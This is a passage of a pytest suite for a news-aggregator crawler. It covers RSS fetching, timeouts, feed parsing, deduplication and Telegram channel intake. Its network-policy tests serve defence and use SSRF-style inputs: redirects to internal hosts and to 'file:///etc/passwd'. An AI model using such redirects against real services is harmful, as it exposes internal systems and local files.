                          rss_source("b", server.url + "/b", priority=0),
                          rss_source("c", server.url + "/c", priority=1)])
    crawl(s, db)
    assert [path for path, *_ in server.requests] == ["/b", "/c", "/a"]


def test_one_request_at_a_time_per_host_with_the_delay_and_hosts_in_parallel(home, closing):
    servers = [closing(FeedServer("127.0.0.1")), closing(FeedServer("127.0.0.2"))]
    sources = []
    for n, srv in enumerate(servers):
        for k in range(3):
            def slow(request, body=rss(items(1, start=10 * n + k, host=srv.url))):
                time.sleep(0.2)
                return 200, {"Content-Type": "application/rss+xml"}, body
            srv.routes[f"/f{k}"] = slow
            sources.append(rss_source(f"s{n}{k}", f"{srv.url}/f{k}"))
    s, db = intake(home, sources, RSS_HOST_DELAY=0.3, RSS_CONCURRENCY=4)
    started = time.monotonic()
    assert crawl(s, db).new_posts == 6
    elapsed = time.monotonic() - started
    for srv in servers:
        times = sorted(t for *_, t in srv.requests)
        assert all(b - a >= 0.5 for a, b in zip(times, times[1:]))    # 0.2 s answer + 0.3 s delay
    assert elapsed < 2.5        # the two hosts overlapped (serially it would take 3 s)


# Fetching: the network policy and slow peers ----------------------------------

def finishes_within(seconds, function):
    """Run function in a thread; (True, result) if it returned within
    `seconds`, which is only an upper bound against hanging for good."""
    outcome = {}
    thread = threading.Thread(target=lambda: outcome.setdefault("result", function()),
                              daemon=True)
    thread.start()
    thread.join(seconds)
    return not thread.is_alive(), outcome.get("result")


def test_a_feed_that_drips_its_headers_cannot_hold_the_crawl(home, server, closing):
    drip = closing(DripServer("127.0.0.3"))
    server.feed("/feed", rss(items(2, host=server.url)))
    s, db = intake(home, [rss_source("slow", drip.url + "/feed"),
                          rss_source("fast", server.url + "/feed", priority=1)],
                   RSS_TIMEOUT=0.3)
    finished, result = finishes_within(10, lambda: crawl(s, db))
    assert finished
    assert drip.connections == 1
    assert source_row(db, "slow")["last_error"] == "response took longer than 0.9 s"
    assert [r["status"] for r in runs_of(db, "slow")] == ["error"]
    assert len(posts_of(db, "fast")) == 2


def test_rss_all_with_a_dripping_feed_exits_0_and_records_the_error(home, closing):
    drip = closing(DripServer("127.0.0.3"))
    write_sources(home / "sources.yaml", [rss_source("slow", drip.url + "/feed")])
    result = cli("rss", "--all", cwd=home, env={"RSS_TIMEOUT": "0.3"}, timeout=20)
    assert result.returncode == 0, result.stderr
    conn = sqlite3.connect(home / "vesti.db")
    assert conn.execute("SELECT last_error FROM sources WHERE slug = 'slow'").fetchone() == \
        ("response took longer than 0.9 s",)
    conn.close()


def test_a_host_busy_longer_than_the_patience_gives_host_busy():
    gate = vesti.HostGate(0)
    entered = threading.Event()
    leave = threading.Event()

    def hold():
        with gate.turn("http://slow.example/a"):
            entered.set()
            leave.wait(5)
    holder = threading.Thread(target=hold, daemon=True)
    holder.start()
    try:
        assert entered.wait(5)
        with pytest.raises(vesti.HostBusy) as busy:
            with gate.turn("http://slow.example/b", patience=0.2):
                pass
        assert isinstance(busy.value, vesti.FetchError)
        with gate.turn("http://other.example/", patience=0.2):   # another host is not held
            pass
    finally:
        leave.set()
        holder.join(5)
    with gate.turn("http://slow.example/c", patience=0.2):       # free again once released
        pass


@pytest.mark.slow
@both
def test_articles_on_a_dripping_host_do_not_stall_the_workers(home, closing):
    page = (CORPUS / "html" / "bbc.com.52241221.html").read_bytes()
    expected = json.loads((CORPUS / "html" / "expected.json").read_text())["pages"]
    snippet = expected["bbc.com.52241221.html"]["with"][0]
    fast, drip = closing(FeedServer("127.0.0.2")), closing(DripServer("127.0.0.3"))
    s, db, registry = worker_home(home, "", RSS_TIMEOUT=0.3, VESTI_ALLOW_PRIVATE_NETWORKS=1)
    add_posts(db.conn(), 12)
    for k in range(12):
        fast.routes[f"/a/{k}"] = lambda request: (200, {"Content-Type": "text/html"}, page)
        url = f"{fast.url}/a/{k}" if k % 2 else f"{drip.url}/a/{k}"
        db.conn().execute("UPDATE posts SET url = ?, content_type = 'summary' WHERE title = ?",
                          (url, f"Post {k}"))
    finished, _ = finishes_within(
        20, lambda: vesti.run_workers(db, s, registry, workers=4, quiet=True))
    assert finished
    posts = db.conn().execute("SELECT * FROM posts ORDER BY id").fetchall()
    assert [p["classified"] for p in posts] == [1] * 12
    tarpit = [p for p in posts if p["url"].startswith(drip.url)]
    served = [p for p in posts if p["url"].startswith(fast.url)]
    assert [(p["content_type"], p["text"]) for p in tarpit] == \
        [("summary", "News about the Linux kernel.")] * 6
    assert [p["content_type"] for p in served] == ["full"] * 6
    assert all(snippet in p["text"] for p in served)
    assert drip.connections < 6         # the busy tarpit host was given up on, not queued for



@pytest.mark.slow
@both
def test_articles_of_different_hosts_are_fetched_side_by_side(home, monkeypatch, closing):
    """Posts are stored feed by feed, so the oldest pending ones are one
    host's: two workers still fetch two hosts' articles at a time, each
    host at its own pace, instead of queueing for the first host. Their
    texts are extracted one at a time (trafilatura crashes the process
    now and then when two extractions overlap)."""
    page = (CORPUS / "html" / "bbc.com.52241221.html").read_bytes()
    trafilatura = pytest.importorskip("trafilatura")
    extracting, overlaps, real_extract = [], [], trafilatura.extract

    def extract(*args, **kwargs):
        extracting.append(1)
        overlaps.append(len(extracting))
        time.sleep(0.02)            # long enough for another worker to arrive
        try:
            return real_extract(*args, **kwargs)
        finally:
            extracting.pop()
    monkeypatch.setattr(trafilatura, "extract", extract)
    hosts = [closing(FeedServer("127.0.0.2")), closing(FeedServer("127.0.0.3"))]
    s, db, registry = worker_home(home, "", RSS_HOST_DELAY=0.2,
                                  VESTI_ALLOW_PRIVATE_NETWORKS=1)
    add_posts(db.conn(), 12, content_type="summary")
    for k in range(12):
        host = hosts[k // 6]
        host.routes[f"/a/{k}"] = lambda request: (200, {"Content-Type": "text/html"}, page)
        db.conn().execute("UPDATE posts SET url = ? WHERE title = ?",
                          (f"{host.url}/a/{k}", f"Post {k}"))
    vesti.run_workers(db, s, registry, workers=2, quiet=True)
    assert queue_of(db) == {1: 12}
    order = [host for _, host in sorted((at, k) for k, host in enumerate(hosts)
                                        for _, _, at in host.requests)]
    assert len(order) == 12
    # One host after the other would fetch the first host's six articles
    # first; side by side, the second host's begin while the first's go on
    # (how closely they alternate depends on how loaded the machine is).
    assert order[:6].count(1) >= 2 and order[6:].count(0) >= 1, order
    assert len(overlaps) == 12 and max(overlaps) == 1

# The network policy: article links and redirects come from third parties.

def everything_stored(db):
    """Every value of every post, as one text."""
    rows = list(stored_posts(db.conn()).values())
    return "\n".join(str(value) for row in rows for value in tuple(row))


def teaser_feed(links):
    return rss([{"guid": f"t{k}", "link": link, "title": f"Teaser {k}",
                 "text": "Short teaser about the Linux kernel."} for k, link in enumerate(links)])


def test_entry_links_to_an_internal_host_are_fetched_only_when_allowed(home, server, internal):
    internal.routes["/secret2"] = internal.routes["/secret"]
    server.feed("/feed", teaser_feed([internal.url + "/secret"]), etag='"1"')
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    vesti.run_workers(db, s, vesti.load_registry(s.sources), workers=1, quiet=True)
    assert internal.requests == []
    assert internal.secret not in everything_stored(db)
    post = posts_of(db, "x")[0]
    assert (post["classified"], post["content_type"], post["text"]) == \
        (1, "summary", "Short teaser about the Linux kernel.")     # the post's own text stands

    allowed = make_settings(home, VESTI_ALLOW_PRIVATE_NETWORKS=1)
    server.feed("/feed", teaser_feed([internal.url + "/secret", internal.url + "/secret2"]),
                etag='"2"')
    crawl(allowed, db)
    vesti.run_workers(db, allowed, vesti.load_registry(s.sources), workers=1, quiet=True)
    assert [path for path, *_ in internal.requests] == ["/secret2"]
    post = posts_of(db, "x")[1]
    assert (post["classified"], post["content_type"]) == (1, "full")
    assert internal.secret in post["text"]


def test_a_feed_redirect_to_an_internal_host_is_refused_unless_allowed(home, server, internal):
    internal.feed("/feed", rss(items(2, host=internal.url)))
    server.redirect("/feed", 302, internal.url + "/feed")
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    assert internal.requests == []
    error = source_row(db, "x")["last_error"]
    assert "127.0.0.2" in error and "VESTI_ALLOW_PRIVATE_NETWORKS" in error
    assert posts_of(db, "x") == []

    crawl(make_settings(home, VESTI_ALLOW_PRIVATE_NETWORKS=1), db)
    assert len(internal.sent("/feed")) == 1
    assert source_row(db, "x")["last_error"] is None
    assert len(posts_of(db, "x")) == 2


@pytest.mark.parametrize("scheme, target", [("file", "file:///etc/passwd"),
                                            ("ftp", "ftp://127.0.0.1:{ftp}/x"),
                                            ("data", "data:text/plain,hello")])
def test_a_redirect_to_a_scheme_other_than_http_is_refused(home, server, scheme, target,
                                                           closing):
    ftp = closing(TcpListener())
    server.redirect("/feed", 302, target.format(ftp=ftp.port))
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    assert not ftp.connected.is_set()
    error = source_row(db, "x")["last_error"]
    assert error and f"{scheme}:" in error and "refused" in error
    assert posts_of(db, "x") == []


def test_an_article_redirect_to_an_internal_host_is_refused_unless_allowed(home, server,
                                                                          internal):
    server.feed("/feed", teaser_feed([server.url + "/article"]), etag='"1"')
    server.redirect("/article", 302, internal.url + "/secret")
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    vesti.run_workers(db, s, vesti.load_registry(s.sources), workers=1, quiet=True)
    assert len(server.sent("/article")) == 1                # the source's own host is fine
    assert internal.requests == []
    assert internal.secret not in everything_stored(db)
    assert [(p["classified"], p["content_type"]) for p in posts_of(db, "x")] == [(1, "summary")]

    allowed = make_settings(home, VESTI_ALLOW_PRIVATE_NETWORKS=1)
    server.redirect("/article2", 302, internal.url + "/secret")
    server.feed("/feed", teaser_feed([server.url + "/article", server.url + "/article2"]),
                etag='"2"')
    crawl(allowed, db)
    vesti.run_workers(db, allowed, vesti.load_registry(s.sources), workers=1, quiet=True)
    assert len(internal.sent("/secret")) == 1
    post = posts_of(db, "x")[1]
    assert (post["classified"], post["content_type"]) == (1, "full")
    assert internal.secret in post["text"]


@pytest.mark.parametrize("address", ["127.0.0.1", "10.1.2.3", "169.254.1.1", "::1", "fc00::1",
                                     "::ffff:127.0.0.1", "0.0.0.0", "224.0.0.1", "100.64.0.1"])
def test_loopback_private_and_reserved_addresses_are_refused(address):
    assert vesti.why_refused(address)


@pytest.mark.parametrize("address", ["93.184.216.34", "2606:4700::1"])
def test_public_addresses_are_allowed(address):
    assert vesti.why_refused(address) is None


def test_a_dripping_feed_does_not_hold_the_crawls_of_other_priorities(home, server, closing,
                                                                      request):
    drip = closing(DripServer("127.0.0.3", lifetime=10))
    stop = threading.Event()
    request.addfinalizer(stop.set)                  # the crawl stops, whatever failed
    server.feed("/feed", rss(items(3, host=server.url)))
    s, db = intake(home, [rss_source("slow", drip.url + "/feed", priority=0),
                          rss_source("fast", server.url + "/feed", priority=1)],
                   RSS_TIMEOUT=5, VESTI_CRAWL_EVERY="10m,1h")
    now = [time.time()]
    scheduler = vesti.Scheduler(db, s, vesti.load_registry(s.sources), stop,
                                clock=lambda: now[0])
    assert scheduler.tick() == [0, 1]
    assert wait_for(lambda: len(posts_of(db, "fast")) == 3, timeout=10)
    assert wait_for(lambda: drip.connections == 1, timeout=5)
    assert [r["status"] for r in runs_of(db, "slow")] == ["running"]
    now[0] += 901                                       # priority 0 is due again
    assert scheduler.tick() == []                       # but still running: not restarted
    assert drip.connections == 1
    stop.set()
    drip.close()
    assert scheduler.join(10)
    run = runs_of(db, "slow")[0]
    assert run["status"] == "error" and run["finished_at"]      # the cut-off crawl is closed


# RSS: the corpus through the crawler ------------------------------------------

def serve_files(server, paths, root):
    sources = []
    for n, path in enumerate(paths):
        name = f"/{path.relative_to(root).as_posix()}"
        server.routes[name] = lambda request, body=path.read_bytes(): (
            200, {"Content-Type": "application/xml"}, body)
        sources.append(rss_source(f"f{n}", server.url + name))
    return sources


@pytest.mark.slow
@pytest.mark.parametrize("part", range(4))     # four parts, so two cores share the work
def test_every_real_feed_yields_posts_or_a_recorded_error(home, server, part):
    assert len(REAL_FEEDS) == 101
    feeds = REAL_FEEDS[part::4]
    sources = serve_files(server, feeds, CORPUS / "feeds" / "real")
    s, db = intake(home, sources)
    summary = crawl(s, db)
    assert len(summary.results) == len(feeds)
    conn = db.conn()
    for source, path in zip(conn.execute("SELECT * FROM sources ORDER BY id"), feeds):
        posts = conn.execute("SELECT count(*) FROM posts WHERE source_id = ?",
                             (source["id"],)).fetchone()[0]
        if posts == 0 and not source["last_error"]:
            # Every entry was already stored from another feed of the corpus.
            drafts = vesti.parse_feed(path.read_bytes(), source["url"], 200).drafts
            assert drafts and all(conn.execute(
                "SELECT 1 FROM posts WHERE canonical_url = ?", (d.canonical_url,)).fetchone()
                for d in drafts), path.name
    assert summary.count("ok") == len(feeds)       # every real feed is readable


@pytest.mark.slow
def test_every_illformed_feed_is_stored_whole_or_recorded_as_an_error(home, server):
    root = CORPUS / "feeds" / "illformed"
    sources = serve_files(server, ILLFORMED_FEEDS, root)
    s, db = intake(home, sources)
    summary = crawl(s, db)
    assert len(summary.results) == len(ILLFORMED_FEEDS)
    conn = db.conn()
    for source in conn.execute("SELECT * FROM sources").fetchall():
        run = conn.execute("SELECT * FROM runs WHERE source_id = ?", (source["id"],)).fetchone()
        posts = conn.execute("SELECT count(*) FROM posts WHERE source_id = ?",
                             (source["id"],)).fetchone()[0]
        if run["status"] == "error":
            assert posts == 0 and source["last_error"], source["url"]
        else:
            assert run["status"] == "ok" and run["new_posts"] == posts, source["url"]
    assert summary.count("error") > 0 and summary.count("ok") > 0
    assert conn.execute("SELECT count(*) FROM runs WHERE status = 'running'").fetchone()[0] == 0


# RSS: the fast parse path against feedparser ----------------------------------

# Where the fast path and feedparser may read a real feed differently, each
# with its reason. None: the fast path reads only what it reads exactly as
# feedparser does, and leaves everything else to feedparser.
ACCEPTED_DIFFERENCES = {}
DRAFT_FIELDS = ("external_id", "url", "canonical_url", "title", "text", "content_type",
                "published_at", "url_identifies", "text_identifies")


def read_both_ways(body, url, content_type, monkeypatch):
    """(parse_feed as the crawler runs it, parse_feed through feedparser
    alone), or None when the fast path declines the feed (both are then
    feedparser's)."""
    try:
        vesti.read_plain_feed(body, url, content_type, 200)
    except vesti.NotPlain:
        return None

    def parse():
        try:
            return vesti.parse_feed(body, url, 200, content_type=content_type)
        except vesti.FeedError as e:
            return str(e)
    ours = parse()
    with monkeypatch.context() as m:
        m.setattr(vesti, "read_feed", lambda b, u, c, limit=None: vesti.read_with_feedparser(b, u, c))
        theirs = parse()
    return ours, theirs


HTML_TO_TEXT_ONCE = functools.lru_cache(None)(vesti.html_to_text)


@pytest.mark.slow
@pytest.mark.parametrize("readings", [
    # No media type and a text/xml without a charset both reach feedparser as
    # application/xml (see rfc7303_content_type): its reading is made once.
    ((None, 50), ("text/xml", 5)),
    (("application/rss+xml; charset=UTF-8", 45),),
    (("text/xml; charset=windows-1251", 30),),      # a server's wrong charset, read as wrongly
    (("text/html; charset=utf-8", 0),)],
    ids=["no type and text/xml", "rss+xml utf-8", "text/xml windows-1251", "text/html"])
def test_the_fast_parser_reads_every_real_feed_as_feedparser_does(readings, monkeypatch):
    """`readings`: (media type, how many feeds the fast path takes at least)."""
    # Both readings, under every media type, turn the same HTML into text:
    # once is enough.
    monkeypatch.setattr(vesti, "html_to_text", HTML_TO_TEXT_ONCE)
    made, run_feedparser = {}, vesti.run_feedparser

    def feedparser_once(body, feed_url, content_type):
        key = (body, feed_url, vesti.rfc7303_content_type(content_type))
        if key not in made:
            made[key] = run_feedparser(body, feed_url, content_type)
        return copy.deepcopy(made[key])
    monkeypatch.setattr(vesti, "run_feedparser", feedparser_once)
    for content_type, at_least in readings:
        fast = fast_path_agrees_with_feedparser(content_type, monkeypatch)
        assert fast >= at_least          # the fast path is taken, not only declined
        assert at_least or fast == 0     # an HTML media type is feedparser's to judge


def fast_path_agrees_with_feedparser(content_type, monkeypatch):
    """How many real feeds the fast path reads under this media type, each
    as feedparser does but for ACCEPTED_DIFFERENCES."""
    fast, differences = 0, {}
    for path in REAL_FEEDS:
        read = read_both_ways(path.read_bytes(), f"https://feeds.example/{path.name}",
                              content_type, monkeypatch)
        if read is None:
            continue
        fast, (ours, theirs) = fast + 1, read
        if isinstance(ours, str) or isinstance(theirs, str):
            assert ours == theirs, path.name
            continue
        feed_fields = ("last_build_date", "ttl", "warning", "keep_fragments")
        assert [getattr(ours, f) for f in feed_fields] == [getattr(theirs, f) for f in feed_fields]
        assert len(ours.drafts) == len(theirs.drafts), path.name
        for mine, its in zip(ours.drafts, theirs.drafts):
            for field in DRAFT_FIELDS:
                if getattr(mine, field) != getattr(its, field):
                    differences.setdefault((path.name, field), (getattr(mine, field),
                                                                getattr(its, field)))
    unexplained = {key: seen for key, seen in differences.items() if key not in ACCEPTED_DIFFERENCES}
    assert not unexplained, content_type
    return fast


def test_the_fast_parser_reads_dates_as_feedparser_does():
    feedparser = pytest.importorskip("feedparser")
    rng = random.Random(7)
    days, months = "Mon Tue Wed Thu Fri Sat Sun".split(), "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
    read_fast = 0
    for _ in range(3000):
        y, mo, d = rng.choice([1999, 2024, 2038]), rng.randint(1, 12), rng.randint(1, 31)
        h, mi, se = rng.choice([0, 9, 23, 24]), rng.randint(0, 59), rng.randint(0, 60)
        zone = rng.choice(["+0000", "-0500", "+0530", "GMT", "UT", "UTC", "Z", "EST", "+03:00", "z"])
        for text in (f"{rng.choice(days)}, {d:02d} {months[mo - 1]} {y} {h:02d}:{mi:02d}:{se:02d} {zone}",
                     f"{d} {rng.choice(['January', 'Dec', 'jul'])} {y} {h}:{mi:02d} {zone}",
                     f"{y}-{mo:02d}-{d:02d}T{h:02d}:{mi:02d}:{se:02d}"
                     f"{rng.choice(['Z', '+03:00', '-05:30', '.123Z', '+0300', ''])}",
                     f"{rng.choice(['Tuesday', 'Foo', 'thu'])}, {d} {months[mo - 1]} {y} 10:00 {zone}"):
            read_fast += vesti.plain_date(text) is not None
            expected = feedparser.datetimes._parse_date(text)
            got = vesti.feed_date(text)
            assert (got and tuple(got)[:6]) == (expected and tuple(expected)[:6]), text
    assert read_fast > 5000


def test_the_fast_parser_takes_no_more_entries_than_it_keeps():
    body = rss(items(500))
    reading = vesti.read_plain_feed(body, "http://x/feed", "application/rss+xml", 200)
    assert len(reading.entries) == 200
    assert len(vesti.parse_feed(body, "http://x/feed", 200).drafts) == 200


def test_fragment_only_links_keep_every_entry_apart(home, server):
    path = CORPUS / "feeds" / "real" / "nnw__scriptingNews.rss"
    server.feed("/feed", path.read_bytes())
    s, db = intake(home, [rss_source("scripting", server.url + "/feed")])
    crawl(s, db)
    posts = posts_of(db, "scripting")
    assert len(posts) == 50
    assert all("#" in p["canonical_url"] for p in posts if p["canonical_url"])
    assert state_row(db, "scripting")["keep_fragments"] == 1


def test_entries_sharing_one_link_are_all_kept(home, server):
    path = CORPUS / "feeds" / "real" / "rome__rsr.xml"     # 15 entries, one link
    server.feed("/feed", path.read_bytes())
    s, db = intake(home, [rss_source("rsr", server.url + "/feed")])
    crawl(s, db)
    assert len(posts_of(db, "rsr")) == 15
    crawl(s, db, ("source", "rsr"))
    assert len(posts_of(db, "rsr")) == 15


def test_a_tracking_fragment_is_dropped(home, server):
    path = CORPUS / "feeds" / "real" / "nnw__macworld.rss"     # links end in #tk.rss_all
    server.feed("/feed", path.read_bytes())
    s, db = intake(home, [rss_source("macworld", server.url + "/feed")])
    crawl(s, db)
    posts = posts_of(db, "macworld")
    assert len(posts) == 30 and not any("#" in p["canonical_url"] for p in posts)


@both
def test_one_article_in_two_feeds_with_different_trackers_is_stored_once(home, server):
    article = {"guid": "x", "title": "Kernel 7.0 released",
               "text": "Linus Torvalds released kernel 7.0 today after a long cycle. " * 3}
    server.feed("/a", rss([{**article, "link": "https://news.example/k70?utm_source=a&utm_medium=rss"}]))
    server.feed("/b", rss([{**article, "text": "Another summary of the same release. " * 3,
                            "link": "https://NEWS.example:443/k70?fbclid=abc#top"}]))
    s, db = intake(home, [rss_source("a", server.url + "/a"), rss_source("b", server.url + "/b")])
    crawl(s, db)
    rows = db.conn().execute("SELECT canonical_url FROM posts").fetchall()
    assert [r[0] for r in rows] == ["https://news.example/k70"]


@both
def test_an_all_duplicate_run_is_a_success_with_zero_new_posts(home, server):
    body = rss(items(2, host="https://same.example"))
    server.feed("/a", body)
    server.feed("/b", body, etag='"other"')
    s, db = intake(home, [rss_source("a", server.url + "/a"), rss_source("b", server.url + "/b")])
    crawl(s, db)
    run = runs_of(db, "b")[-1]
    assert (run["status"], run["new_posts"]) == ("ok", 0)
    assert source_row(db, "b")["last_error"] is None


@pytest.mark.parametrize("path,word", [
    ("feeds/real/miniflux__encoding_WINDOWS-1251.xml", None),
    ("feeds/illformed/feedparser/chardet/koi8r.xml", "Как пережить новогоднюю ночь"),
    ("feeds/illformed/node-feedparser/", None),
])
def test_cyrillic_feeds_come_out_readable(home, server, path, word):
    target = CORPUS / path
    if target.is_dir():
        target = target / "compressed.xml"      # oren.ru, windows-1251, gzip
        server.feed("/feed", gzip.decompress(target.read_bytes()), content_type="text/xml")
    else:
        server.feed("/feed", target.read_bytes(), content_type="application/xml")
    s, db = intake(home, [rss_source("ru", server.url + "/feed")])
    crawl(s, db)
    posts = posts_of(db, "ru")
    text = " ".join(p["title"] + " " + p["text"] for p in posts)
    cyrillic = sum("а" <= ch.lower() <= "я" for ch in text)
    assert posts and cyrillic > 0.5 * sum(ch.isalpha() for ch in text)
    if word:
        assert posts[0]["title"] == word


@pytest.mark.parametrize("name,title", [
    ("rssparser__heise.atom", "Scrum Day 2016: Bewerbungen für Vorträge und Workshops"),
    ("miniflux__encoding_WINDOWS-1251.xml", "Цитата #17705")])     # declared in the XML
def test_a_healthy_feed_served_as_text_xml_without_a_charset_has_no_warning(home, server,
                                                                           name, title):
    server.feed("/feed", (CORPUS / "feeds" / "real" / name).read_bytes(), content_type="text/xml")
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    assert state_row(db, "x")["status"] == "ok"
    assert state_row(db, "x")["last_error"] is None and source_row(db, "x")["last_error"] is None
    assert title in [p["title"] for p in posts_of(db, "x")]


# Telegram ---------------------------------------------------------------------



def tg_date(minute):
    return datetime.datetime(2026, 11, 30, 9, minute, tzinfo=datetime.timezone.utc)


def tg_message(id, text="", **kwargs):
    return tg.Message(id=id, peer_id=tg.PeerChannel(1001), date=tg_date(id % 60),
                      message=text, **kwargs)


def tg_document(mime, attributes=()):
    return tg.MessageMediaDocument(document=tg.Document(
        id=1, access_hash=2, file_reference=b"", date=tg_date(0), mime_type=mime, size=10,
        dc_id=2, attributes=list(attributes)))


def channel_history():
    """A channel as Telegram would return it: every kind of message."""
    return [
        tg_message(1, "Linux 7.0 is out with a new scheduler.\nDetails follow in the post."),
        tg_message(2, "Photo of the kernel summit", media=tg.MessageMediaPhoto(photo=None)),
        tg_message(3, "Album: three shots from the conference", grouped_id=77,
                   media=tg.MessageMediaPhoto(photo=None)),
        tg_message(4, "", grouped_id=77, media=tg.MessageMediaPhoto(photo=None)),
        tg_message(5, "", grouped_id=77, media=tg_document(
            "video/mp4", [tg.DocumentAttributeVideo(duration=3, w=640, h=480)])),
        tg_message(6, "Forwarded news about systemd", fwd_from=tg.MessageFwdHeader(
            date=tg_date(1), from_name="Open Source Daily")),
        tg.MessageService(id=7, peer_id=tg.PeerChannel(1001), date=tg_date(7),
                          action=tg.MessageActionPinMessage()),
        tg_message(8, "", media=tg.MessageMediaEmpty()),
        tg_message(9, "Spec sheet attached", media=tg_document("application/pdf")),
    ]


def tg_intake(home, **settings):
    return intake(home, [{"slug": "chan", "crawler": "telegram", "url": "https://t.me/linuxnews",
                          "direction": "linux"}], **settings)


def crawl_tg(s, db, fake, sleeps=None):
    async def sleep(seconds):
        (sleeps if sleeps is not None else []).append(seconds)
    return vesti.crawl_telegram(db, s, client_factory=fake, sleep=sleep, quiet=True)


@both
def test_telegram_messages_become_posts(home):
    s, db = tg_intake(home)
    fake = FakeTelegram(channel_history())
    summary = crawl_tg(s, db, fake)
    assert summary.results[0].status == "ok" and summary.new_posts == 5
    posts = {p["external_id"]: p for p in posts_of(db, "chan")}
    assert sorted(posts, key=int) == ["1", "2", "3", "6", "9"]      # album 3-5 is one post
    assert posts["1"]["url"] == "https://t.me/linuxnews/1"
    assert posts["1"]["title"] == "Linux 7.0 is out with a new scheduler."
    assert posts["1"]["published_at"] == "2026-11-30 09:01:00"
    assert (posts["2"]["content_type"], posts["2"]["text"]) == ("photo", "Photo of the kernel summit")
    assert (posts["3"]["content_type"], posts["3"]["url"]) == ("album", "https://t.me/linuxnews/3")
    assert posts["3"]["text"] == "Album: three shots from the conference"
    assert posts["6"]["title"].startswith("Forwarded from Open Source Daily")
    assert posts["9"]["content_type"] == "document"
    assert all(p["classified"] == 0 and p["direction"] == "linux" for p in posts.values())
    assert last_message_read(db) == 9
    assert fake.requests == ["ResolveUsernameRequest", "GetHistoryRequest"]
    run = runs_of(db, "chan")[-1]
    assert (run["task"], run["status"], run["new_posts"]) == ("telegram", "ok", summary.new_posts)


def test_an_empty_media_message_without_text_is_not_a_post(home):
    s, db = tg_intake(home)
    crawl_tg(s, db, FakeTelegram([tg_message(1, "", media=tg.MessageMediaEmpty()),
                                  tg.MessageService(id=2, peer_id=tg.PeerChannel(1), date=tg_date(2),
                                                    action=tg.MessageActionPinMessage())]))
    assert posts_of(db, "chan") == []
    assert last_message_read(db) == 2


def test_a_video_message_is_a_video_post(home):
    s, db = tg_intake(home)
    crawl_tg(s, db, FakeTelegram([tg_message(1, "Clip", media=tg_document("video/mp4"))]))
    assert posts_of(db, "chan")[0]["content_type"] == "video"


@both
def test_the_second_telegram_run_takes_only_newer_messages_oldest_first(home):
    s, db = tg_intake(home)
    history = channel_history()
    fake = FakeTelegram(history)
    crawl_tg(s, db, fake)
    fake.history.append(tg_message(10, "Newer post about the kernel release candidate."))
    fake.history.append(tg_message(11, "Newest post about the kernel."))
    summary = crawl_tg(s, db, fake)
    assert summary.new_posts == 2
    assert fake.count("ResolveUsernameRequest") == 1      # resolved once, on the first run
    ids = [p["external_id"] for p in posts_of(db, "chan")][-2:]
    assert ids == ["10", "11"]
    assert last_message_read(db) == 11
    assert crawl_tg(s, db, fake).new_posts == 0


def test_the_first_telegram_run_takes_the_latest_max_entries(home):
    s, db = tg_intake(home, RSS_MAX_ENTRIES=3)
    fake = FakeTelegram([tg_message(k, f"Message number {k} with enough text to stand alone.")
                         for k in range(1, 11)])
    crawl_tg(s, db, fake)
    assert [p["external_id"] for p in posts_of(db, "chan")] == ["8", "9", "10"]


def test_an_album_cut_by_the_batch_limit_stays_one_post(home):
    s, db = tg_intake(home, RSS_MAX_ENTRIES=3)
    fake = FakeTelegram([tg_message(1, "First post of the day, long enough to stand alone.")])
    crawl_tg(s, db, fake)
    fake.history += [tg_message(2, "Second post of the day, long enough to stand alone."),
                     tg_message(3, "Album caption: three photos from the launch pad", grouped_id=9,
                                media=tg.MessageMediaPhoto(photo=None)),
                     tg_message(4, "", grouped_id=9, media=tg.MessageMediaPhoto(photo=None)),
                     tg_message(5, "", grouped_id=9, media=tg.MessageMediaPhoto(photo=None))]
    crawl_tg(s, db, fake)                         # takes 2, 3, 4: the album is cut at 4
    assert last_message_read(db) == 2
    crawl_tg(s, db, fake)                         # 3, 4, 5: the whole album
    posts = [(p["external_id"], p["content_type"]) for p in posts_of(db, "chan")]
    assert posts == [("1", "text"), ("2", "text"), ("3", "album")]


def test_a_short_floodwait_is_waited_out(home):
    s, db = tg_intake(home)
    sleeps = []
    summary = crawl_tg(s, db, FakeTelegram(channel_history(), flood=[5]), sleeps)
    assert sleeps == [5] and summary.results[0].status == "ok"
    assert source_row(db, "chan")["last_error"] is None


@both
def test_a_long_floodwait_defers_every_channel_without_counting_an_error(home):
    s, db = tg_intake(home)
    sleeps = []
    summary = crawl_tg(s, db, FakeTelegram(channel_history(), flood=[3600]), sleeps)
    assert sleeps == [] and summary.results[0].status == "deferred"
    row = source_row(db, "chan")
    assert row["error_count"] == 0 and row["status"] == "alive"
    assert row["last_error"].startswith("Telegram FloodWait of 3600 s: every channel waits until")
    assert row["next_fetch_at"] > vesti.utc_text(time.time() + 3500)
    assert posts_of(db, "chan") == []


def many_channels(home, count, **settings):
    channels = {f"chan{k:03d}": [tg_message(1, f"Channel {k}: the kernel news of the day, "
                                                f"long enough to stand alone.")]
                for k in range(count)}
    s, db = intake(home, [{"slug": f"c{k:03d}", "crawler": "telegram", "url": f"@chan{k:03d}"}
                          for k in range(count)], **settings)
    return s, db, FakeTelegram(channels=channels)


def test_channels_are_resolved_once_and_history_requests_are_paced(home):
    s, db, fake = many_channels(home, 200)
    sleeps = []
    first = crawl_tg(s, db, fake, sleeps)
    assert first.new_posts == 200
    assert (fake.count("ResolveUsernameRequest"), fake.count("GetHistoryRequest")) == (200, 200)
    # Telegram allows about 10 history requests per 30 s in bulk: after a burst
    # of 10, the crawl waits about 3 s before each further one.
    assert sum(sleeps) >= (200 - vesti.HISTORY_BURST) * vesti.HISTORY_EVERY * 0.99
    assert max(sleeps) <= vesti.HISTORY_EVERY
    fake.requests.clear()
    for k, history in enumerate(fake.channels.values()):
        history.append(tg_message(2, f"Channel {k}: a second post about the kernel, long enough."))
    second = crawl_tg(s, db, fake)
    assert second.new_posts == 200
    assert (fake.count("ResolveUsernameRequest"), fake.count("GetHistoryRequest")) == (0, 200)
    assert fake.connects == 2                 # one connection per crawl for every channel


def test_a_floodwait_on_one_channel_defers_the_whole_telegram_crawl(home):
    s, db, fake = many_channels(home, 10)
    fake.flood_on["chan002"] = 3600
    summary = crawl_tg(s, db, fake)
    assert [r.status for r in summary.results] == ["ok", "ok"] + ["deferred"] * 8
